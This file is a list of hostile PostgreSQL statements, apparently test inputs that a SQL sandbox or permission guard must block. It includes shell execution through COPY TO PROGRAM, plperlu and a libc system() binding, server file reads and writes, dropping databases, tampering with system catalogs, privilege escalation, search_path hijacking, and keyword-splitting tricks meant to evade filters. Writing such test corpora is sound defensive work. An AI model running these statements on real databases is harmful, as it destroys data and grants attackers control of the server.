COPY (SELECT 1) TO '$DIR/new.txt'

COPY (SELECT 1) TO $$$DIR/new.txt$$

COPY (SELECT 1) TO E'$DIR\x2fnew.txt'

copy/**/(select 1)/**/to/**/program/**/'touch $DIR/new.txt'

COPY (SELECT 1) TO PROGRAM 'touch $DIR/new.txt'

CREATE TABLE t (a TEXT); COPY t FROM PROGRAM 'touch $DIR/new.txt'

CREATE TABLE t (a TEXT); COPY t FROM '$DIR/keep.txt'; COPY t TO '$DIR/keep.txt'

DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PRO' || 'GRAM ''touch $DIR/new.txt'''; END $$

DO $$ BEGIN EXECUTE format('COPY (SELECT 1) TO %L', '$DIR/new.txt'); END $$

CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY (SELECT 1) TO '$DIR/new.txt'; END $$; SELECT f()

CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN COPY (SELECT 1) TO PROGRAM 'touch $DIR/new.txt'; END $$; SELECT f()

CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN COPY (SELECT 1) TO '$DIR/new.txt'; END $$; CALL p()

SELECT lo_export(lo_from_bytea(0, 'x'), '$DIR/new.txt')

SELECT lo_import('$DIR/keep.txt')

SELECT pg_file_write('$DIR/new.txt', 'x', false)

SELECT pg_read_file('$DIR/keep.txt')

SELECT pg_ls_dir('$DIR')

CREATE EXTENSION adminpack; SELECT pg_file_unlink('$DIR/keep.txt')

CREATE EXTENSION file_fdw; CREATE SERVER s FOREIGN DATA WRAPPER file_fdw; CREATE FOREIGN TABLE t (a TEXT) SERVER s OPTIONS (program 'touch $DIR/new.txt'); SELECT * FROM t

CREATE EXTENSION dblink; SELECT dblink_exec('dbname=victim', 'DELETE FROM orders')

CREATE EXTENSION postgres_fdw; CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'victim'); CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'postgres'); CREATE FOREIGN TABLE orders (id INT) SERVER s; DELETE FROM orders

CREATE EXTENSION plpython3u

CREATE EXTENSION plperlu; DO LANGUAGE plperlu $$ system('touch $DIR/new.txt') $$

CREATE FUNCTION system(cstring) RETURNS INT AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT; SELECT system('touch $DIR/new.txt')

LOAD '$DIR/keep.txt'

DROP DATABASE victim

DROP/**/DATABASE victim

DROP DATABASE victim WITH (FORCE)

DO $$ BEGIN PERFORM 1; EXECUTE 'DROP DATA' || 'BASE victim'; END $$

ALTER DATABASE victim RENAME TO other

ALTER DATABASE victim SET work_mem = '1MB'

ALTER DATABASE victim CONNECTION LIMIT 0

ALTER DATABASE victim OWNER TO CURRENT_USER

COMMENT ON DATABASE victim IS 'x'

REVOKE CONNECT ON DATABASE victim FROM PUBLIC

GRANT ALL ON DATABASE victim TO PUBLIC

CREATE DATABASE extra TEMPLATE victim

DELETE FROM pg_database WHERE datname = 'victim'

UPDATE pg_database SET datallowconn = false WHERE datname = 'victim'

SET allow_system_table_mods = on; DELETE FROM pg_catalog.pg_database

UPDATE pg_authid SET rolsuper = true

UPDATE pg_catalog.pg_authid SET rolpassword = NULL WHERE rolname = 'bystander'

CREATE ROLE thief

DO $$ BEGIN EXECUTE 'CREATE RO' || 'LE thief SUPERUSER'; END $$

DROP ROLE bystander

ALTER ROLE bystander PASSWORD 'x'

ALTER ROLE bystander SET work_mem = '1MB'

ALTER ROLE ALL SET work_mem = '1MB'

ALTER ROLE postgres NOSUPERUSER

ALTER ROLE CURRENT_USER SUPERUSER

ALTER ROLE CURRENT_USER CREATEDB; CREATE DATABASE extra

GRANT pg_write_server_files TO CURRENT_USER; COPY (SELECT 1) TO '$DIR/new.txt'

GRANT postgres TO CURRENT_USER; SET ROLE postgres; DROP DATABASE victim

SET ROLE postgres; DROP DATABASE victim

SET SESSION AUTHORIZATION postgres; DROP DATABASE victim

RESET SESSION AUTHORIZATION; RESET ROLE; DROP DATABASE victim

SELECT set_config('role', 'postgres', false); DROP DATABASE victim

REASSIGN OWNED BY postgres TO CURRENT_USER; DROP OWNED BY bystander

ALTER SYSTEM SET work_mem = '1MB'

ALTER SYSTEM RESET ALL

SELECT pg_reload_conf()

SELECT pg_rotate_logfile()

SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()

SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename <> current_user

CREATE TABLESPACE ts LOCATION '$DIR'

CREATE SUBSCRIPTION s CONNECTION 'dbname=victim' PUBLICATION p

CREATE PUBLICATION p FOR ALL TABLES

SELECT pg_switch_wal()

SELECT pg_create_restore_point('x')

CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION pg_sleep()

ALTER FUNCTION pg_catalog.now() RENAME TO later

CREATE FUNCTION pg_catalog.thief() RETURNS INT LANGUAGE sql AS 'SELECT 1'

CREATE RULE r AS ON INSERT TO pg_catalog.pg_class DO INSTEAD NOTHING

SET session_preload_libraries = '$DIR/keep.txt'; SET local_preload_libraries = '$DIR/keep.txt'

SET log_directory = '$DIR'; SET data_directory = '$DIR'

SET dynamic_library_path = '$DIR'; LOAD 'keep.txt'

SECURITY LABEL ON ROLE bystander IS 'x'

LOCK TABLE pg_catalog.pg_database IN ACCESS EXCLUSIVE MODE

TRUNCATE pg_catalog.pg_authid

CHECKPOINT; VACUUM FULL pg_catalog.pg_database

SELECT pg_create_physical_replication_slot('thief')

SELECT pg_create_logical_replication_slot('thief', 'pgoutput')

BEGIN; CREATE TABLE held (a INT); PREPARE TRANSACTION 'held'; DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET local_preload_libraries = ''missing''', current_database()); EXECUTE format('ALTER DATABASE %I SET search_path = evil', current_database()); END $$

DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET role = postgres', current_database()); EXECUTE format('ALTER DATABASE %I SET statement_timeout = 1', current_database()); END $$

CREATE FUNCTION public.format(text, VARIADIC text[]) RETURNS text LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE postgres PASSWORD ''x'''; RETURN ''; END $$; ALTER ROLE CURRENT_USER SET search_path = public, pg_catalog

DO $$ BEGIN EXECUTE format('GRANT %I TO bystander WITH ADMIN OPTION', current_user); EXECUTE format('GRANT ALL ON DATABASE %I TO bystander WITH GRANT OPTION', current_database()); END $$

SELECT query_to_xml('COPY (SELECT 1) TO PROGRAM ''touch $DIR/new.txt''', true, true, '')
